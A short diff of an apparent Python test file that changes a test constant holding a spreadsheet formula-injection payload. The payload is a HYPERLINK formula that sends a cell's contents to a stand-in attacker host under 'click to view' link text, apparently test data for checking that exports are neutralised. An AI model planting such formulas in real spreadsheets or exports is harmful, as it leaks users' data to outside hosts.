@@ -29,7 +29,7 @@ from safetynet.verification.models import CheckRun
 
 MONTH = date(2026, 11, 1)
 DELIVERED = date(2026, 10, 31)
-FORMULA = '=HYPERLINK("http://evil.example/?leak="&C3,"点击查看")'
+FORMULA = '=HYPERLINK("http://e.vil/?"&C3,"点击查看")'  # a name fits 40 characters
 
 
 def client_for(user) -> Client:
